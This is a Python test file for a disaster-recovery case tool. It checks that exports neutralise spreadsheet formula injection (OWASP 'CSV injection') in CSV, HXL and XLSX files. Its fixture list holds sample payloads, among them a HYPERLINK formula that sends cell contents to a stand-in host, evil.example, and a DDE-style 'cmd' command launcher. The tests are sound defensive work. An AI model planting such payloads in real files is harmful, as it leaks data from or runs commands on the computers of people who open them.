"""Exports are safe to open: text that a spreadsheet would evaluate (=, +, -, @, tab, carriage
return first) is written as text — a string cell in XLSX, a leading apostrophe in CSV and HXL —
numbers stay numbers, imports keep such values as they are, and our own export imports back
without the apostrophe (OWASP "CSV injection")."""

from __future__ import annotations

import csv
import zipfile
from datetime import date
from pathlib import Path

import pytest
from sqlalchemy import select

from recovery_desk.io.export import export, looks_like_formula
from recovery_desk.io.importer import ImportOptions, import_file
from recovery_desk.services.workspace import Workspace
from recovery_desk.storage.models import Case, Organisation

HOSTILE = ['=HYPERLINK("http://evil.example/?q="&A1,"click")', "@SUM(1+1)*cmd|' /C calc'!A0", "+1+2", "-2+3",
           "=1+1"]
# Names cannot begin with a tab or a carriage return (imports and services trim them): the
# writers are tested with them directly.
HIDDEN = ["\t=1+1", "\r=1+1"]
HARMLESS = ["七尾市社会福祉協議会", "'Til Dawn", "-5", "+81", "a=b", "Mail @ home"]


def write_csv(path: Path, rows: list[list[object]]) -> Path:
    with path.open("w", encoding="utf-8", newline="") as f:
        csv.writer(f).writerows(rows)
    return path


@pytest.fixture
def hostile_ws(ws, tmp_path: Path):
    """Organisations and households named like formulas, imported as they are."""
    names = HOSTILE + HARMLESS
    orgs = write_csv(tmp_path / "orgs.csv", [["団体名", "略称"], *[[n, f"A{i}"] for i, n in enumerate(names)]])
    import_file(ws, orgs, ImportOptions("organisations"))
    cases = write_csv(tmp_path / "households.csv", [
        ["氏名", "住所", "緯度", "経度", "世帯人数", "同意", "備考"],
        *[[n, f"七尾市{i}", -33.5 - i / 100, 151.25, 2, "reports", n] for i, n in enumerate(names)]])
    import_file(ws, cases, ImportOptions("cases"))
    return ws


def test_imports_keep_formula_like_names_as_they_are(hostile_ws) -> None:
    with hostile_ws.session() as s:
        org_names = set(s.scalars(select(Organisation.name)))
        case_names = set(s.scalars(select(Case.contact_name)))
    assert set(HOSTILE + HARMLESS) <= org_names
    assert set(HOSTILE + HARMLESS) <= case_names


def test_the_rule() -> None:
    assert all(looks_like_formula(v) for v in HOSTILE + HIDDEN)
    assert all(looks_like_formula(v) for v in ["-", "=", "+-1", "-1-1", "@x", "\t1"])
    assert not any(looks_like_formula(v) for v in ["-5", "+81", "-2.5", "-.5", "1e3", "a=b", "", "'=1", "七尾"])
    assert not looks_like_formula(-2) and not looks_like_formula(-2.5)


@pytest.mark.parametrize("kind", ["organisations", "cases", "3w"])
def test_csv_and_hxl_cells_are_marked_as_text(hostile_ws, tmp_path: Path, kind: str) -> None:
    target = tmp_path / f"{kind}.csv"
    export(hostile_ws, kind, target, include_pii=True, lang="en", today=date(2024, 6, 30))
    with target.open(encoding="utf-8-sig", newline="") as f:
        cells = [c for row in csv.reader(f) for c in row]
    for name in HOSTILE:
        assert "'" + name in cells, name
        assert name not in cells
    # Nothing a spreadsheet would evaluate is left unmarked.
    assert not [c for c in cells if looks_like_formula(c)]
    assert "'Til Dawn" in cells and "-5" in cells and "+81" in cells  # harmless text is not touched
    if kind == "cases":
        assert "-33.5" in cells  # a negative number stays a number


@pytest.mark.parametrize("kind", ["organisations", "cases", "3w"])
def test_xlsx_cells_are_strings_never_formulas(hostile_ws, tmp_path: Path, kind: str) -> None:
    from openpyxl import load_workbook

    target = tmp_path / f"{kind}.xlsx"
    export(hostile_ws, kind, target, include_pii=True, lang="ja", today=date(2024, 6, 30))
    with zipfile.ZipFile(target) as z:
        sheet_xml = z.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml and "<f " not in sheet_xml  # no formula element anywhere
    book = load_workbook(target)  # not read-only: the cells' types as Excel will see them
    try:
        cells = [c for row in book.active.iter_rows() for c in row if c.value is not None]
    finally:
        book.close()
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    values = {c.value for c in cells}
    assert set(HOSTILE) <= values  # XLSX adds no mark: the value is the name
    if kind == "cases":
        latitudes = [c.value for c in cells if isinstance(c.value, float) and c.value < 0]
        assert latitudes and all(c.data_type == "n" for c in cells if c.value in latitudes)


@pytest.mark.parametrize("suffix", ["csv", "xlsx"])
def test_our_own_export_imports_back_without_the_mark(hostile_ws, tmp_path: Path, suffix: str) -> None:
    target = tmp_path / f"organisations.{suffix}"
    export(hostile_ws, "organisations", target, lang="en")
    with Workspace.create(tmp_path / "copy.rdesk", incident_name="Copy", start_date=date(2024, 1, 1),
                          actor="Test") as copy:
        result = import_file(copy, target, ImportOptions("organisations"))
        assert not result.problems
        with copy.session() as s:
            names = set(s.scalars(select(Organisation.name)))
    with hostile_ws.session() as s:
        original = set(s.scalars(select(Organisation.name)))
    assert names == original  # "'Til Dawn" keeps its own apostrophe; no "'=…" appears


def test_a_marked_cell_in_a_users_file_is_unmarked_too(ws, tmp_path: Path) -> None:
    # Opened from our CSV in a spreadsheet and saved again, the mark stays in the text.
    path = write_csv(tmp_path / "orgs.csv", [["団体名"], ["'=1+1"], ["'Til Dawn"], ["''=x"]])
    import_file(ws, path, ImportOptions("organisations"))
    with ws.session() as s:
        assert set(s.scalars(select(Organisation.name))) == {"=1+1", "'Til Dawn", "''=x"}


@pytest.mark.parametrize("suffix", ["csv", "xlsx"])
def test_the_writers_with_tab_and_carriage_return(tmp_path: Path, suffix: str) -> None:
    from openpyxl import load_workbook

    from recovery_desk.io.export import Sheet, write_csv, write_xlsx

    sheet = Sheet(["=header", "n"], [[HIDDEN[0], -2], [HIDDEN[1], -2.5], ["=1+1", 3]])
    target = tmp_path / f"sheet.{suffix}"
    if suffix == "csv":
        write_csv(target, sheet)
        with target.open(encoding="utf-8-sig", newline="") as f:
            rows = list(csv.reader(f))
        assert rows == [["'=header", "n"], ["'\t=1+1", "-2"], ["'\r=1+1", "-2.5"], ["'=1+1", "3"]]
        return
    write_xlsx(target, sheet)
    book = load_workbook(target)
    try:
        cells = [[(c.value, c.data_type) for c in row] for row in book.active.iter_rows()]
    finally:
        book.close()
    # XML reads a raw carriage return back as a line feed (openpyxl does not escape it): still a string.
    assert [c[0] for c in cells] == [("=header", "s"), ("\t=1+1", "s"), ("\n=1+1", "s"), ("=1+1", "s")]
    assert [c[1] for c in cells[1:]] == [(-2, "n"), (-2.5, "n"), (3, "n")]


def test_control_characters_do_not_fail_the_xlsx_export(ws, tmp_path: Path) -> None:
    from openpyxl import load_workbook

    from recovery_desk.services.organisations import create_organisation

    # The services refuse such names now (services/validation.py); a workspace written before
    # that rule, or by an older version, may still hold one, and its export must not fail.
    create_organisation(ws, name="placeholder")
    with ws.engine.begin() as connection:
        connection.exec_driver_sql("UPDATE organisation SET name = ?", ("a\x01b\x0bc",))
    target = tmp_path / "orgs.xlsx"
    export(ws, "organisations", target, lang="en")
    book = load_workbook(target, read_only=True)
    try:
        names = [row[0] for row in book.active.iter_rows(min_row=2, values_only=True)]
    finally:
        book.close()
    assert names == ["a\ufffdb\ufffdc"]
    export(ws, "organisations", tmp_path / "orgs.csv", lang="en")  # a CSV carries them as they are
    assert "a\x01b\x0bc" in (tmp_path / "orgs.csv").read_text(encoding="utf-8-sig")
